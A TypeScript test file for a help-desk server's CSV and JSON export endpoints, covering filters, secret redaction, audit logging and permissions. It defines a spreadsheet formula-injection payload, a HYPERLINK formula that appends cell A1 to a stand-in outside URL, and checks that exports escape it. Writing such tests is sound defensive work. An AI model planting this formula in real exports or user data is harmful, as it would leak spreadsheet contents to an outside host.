import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { expect, it, vi } from 'vitest';
import { listRoutes } from '../testing/list-routes.ts';
import { startDeskServer } from '../testing/start-desk-server.ts';
import { syntheticDocument } from '../testing/synthetic-knowledge.ts';

vi.setConfig({ testTimeout: 120_000 });

const FORMULA = '=HYPERLINK("https://elsewhere.example/"&A1,"tent")';

type Server = Awaited<ReturnType<typeof startDeskServer>>;

async function csvOf({ url, adminKey }: Server, path: string): Promise<Record<string, string>[]> {
  const response = await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${adminKey}` } });
  expect([path, response.status]).toEqual([path, 200]);
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z-]+\.csv"$/);
  expect(response.headers.get('cache-control')).toBe('no-store');
  return parse(await response.text(), { bom: true, columns: true });
}

it('every list of more than a page has an export beside it', async () => {
  const server = await startDeskServer();
  const routes = listRoutes(server.tree);
  for (const list of [
    'threads',
    'tickets',
    'customers',
    'documents',
    'users',
    'keys',
    'jobs',
    'products',
    'orders',
    'knowledge/health',
    'knowledge/questions',
    'knowledge/sources',
    'knowledge/regression-questions',
    'webhooks/deliveries',
    'library/:kind',
    'audit',
  ])
    expect(routes).toContain(`GET /api/v1/${list}/export`);
});

it('conversations and documents are exported as the list shows them under the same filter, all of them', async () => {
  const server = await startDeskServer();
  const { conversations, knowledge } = server.app;
  for (let place = 0; place < 620; place += 1) {
    const conversationId = await conversations.createConversation({});
    const text = place % 2 === 0 ? FORMULA : `A boat, number ${place}`;
    await conversations.addMessage({
      id: randomUUID(),
      conversationId,
      role: 'customer',
      text,
      answer: null,
    });
  }
  expect(await csvOf(server, '/api/v1/threads/export?format=csv')).toHaveLength(620);
  const tents = await csvOf(server, '/api/v1/threads/export?format=csv&q=tent&state=assistant');
  expect(tents).toHaveLength(310);
  expect(new Set(tents.map(({ last_text: text }) => text))).toEqual(new Set([`'${FORMULA}`]));
  expect(await csvOf(server, '/api/v1/threads/export?format=csv&state=closed')).toEqual([]);
  const agent = await server.signIn('agent');
  const json = await agent.call('GET', '/api/v1/threads/export?format=json&q=tent');
  const list = await agent.call('GET', '/api/v1/threads?q=tent&limit=100');
  expect(json.body.slice(0, 100)).toEqual(list.body.threads);
  expect(JSON.stringify(json.body)).not.toContain('conversation_id');

  for (let place = 0; place < 3; place += 1)
    await knowledge.putDocument(syntheticDocument(`boats-${place}.md`, [`Boat ${place}`]));
  await knowledge.putDocument(syntheticDocument('tents.md', ['Tent']));
  const documents = await csvOf(server, '/api/v1/documents/export?format=csv&words=boats');
  expect(documents.map(({ source }) => source)).toEqual(['boats-0.md', 'boats-1.md', 'boats-2.md']);
  const wrong = await agent.call('GET', '/api/v1/documents/export?format=xml');
  expect(wrong.body.error.code).toBe('request_invalid');
});

it('users and keys are exported without a secret, findings as rows of one kind, and each export is written down', async () => {
  const server = await startDeskServer();
  const owner = await server.signIn('owner', 'Olga');
  const made = await server.http.call('POST', '/api/v1/keys', {
    key: server.adminKey,
    body: { name: '+till', permissions: ['catalogue.read'] },
  });
  const keys = await csvOf(server, '/api/v1/keys/export?format=csv');
  expect(keys).toMatchObject([{ name: "'+till" }]);
  expect(JSON.stringify(keys)).not.toContain(made.body.key);
  const users = await csvOf(server, '/api/v1/users/export?format=csv');
  expect(users).toMatchObject([{ name: 'Olga', role: 'owner' }]);
  expect(Object.keys(users[0]!).join()).not.toMatch(/password|secret$|hash|token/);

  const place = { chunkId: 1, documentId: 'd', title: 'Tents', headingPath: 'Tents > Care' };
  await server.app.health.saveReport({
    ...{
      checkedAt: '2026-01-01T00:00:00.000Z',
      seconds: 1,
      documents: 2,
      passages: 4,
      questionsCounted: 9,
      gaps: 0,
    },
    stale: [
      {
        documentId: 's',
        title: 'Old',
        updatedAt: '2020-01-01T00:00:00.000Z',
        reason: 'not_updated',
        quote: null,
      },
    ],
    contradictions: [
      {
        kind: 'number',
        one: { ...place, quote: '30 days' },
        other: { ...place, quote: '60 days' },
        decidedBy: 'rules',
      },
    ],
    duplicates: [{ one: place, other: place, cosine: 0.99, shared: 0.9 }],
    orphans: [place],
  });
  const findings = await csvOf(server, '/api/v1/knowledge/health/export?format=csv');
  expect(findings.map(({ finding }) => finding)).toEqual(['stale', 'contradiction', 'duplicate', 'orphan']);
  expect(findings[1]).toMatchObject({ text: '30 days', other_text: '60 days' });
  await server.app.desk.tools.store.putLibraryItem('tags', 'a', {
    name: 'loud',
    data: { colour: '#112233' },
  });
  expect(await csvOf(server, '/api/v1/library/tags/export?format=csv')).toMatchObject([{ name: 'loud' }]);
  for (const list of [
    'jobs',
    'products',
    'orders',
    'knowledge/sources',
    'knowledge/questions',
    'webhooks/deliveries',
  ])
    expect(await csvOf(server, `/api/v1/${list}/export?format=csv`)).toEqual([]);

  const { lines } = (await owner.call('GET', '/api/v1/audit?limit=100')).body;
  const noted = (lines as { action: string }[]).map(({ action }) => action);
  for (const list of ['keys', 'users', 'knowledge/health', 'library/:kind', 'jobs'])
    expect(noted).toContain(`GET /api/v1/${list}/export`);
  const viewer = await server.signIn('viewer', 'Vera');
  expect((await viewer.call('GET', '/api/v1/users/export?format=csv')).status).toBe(403);
});
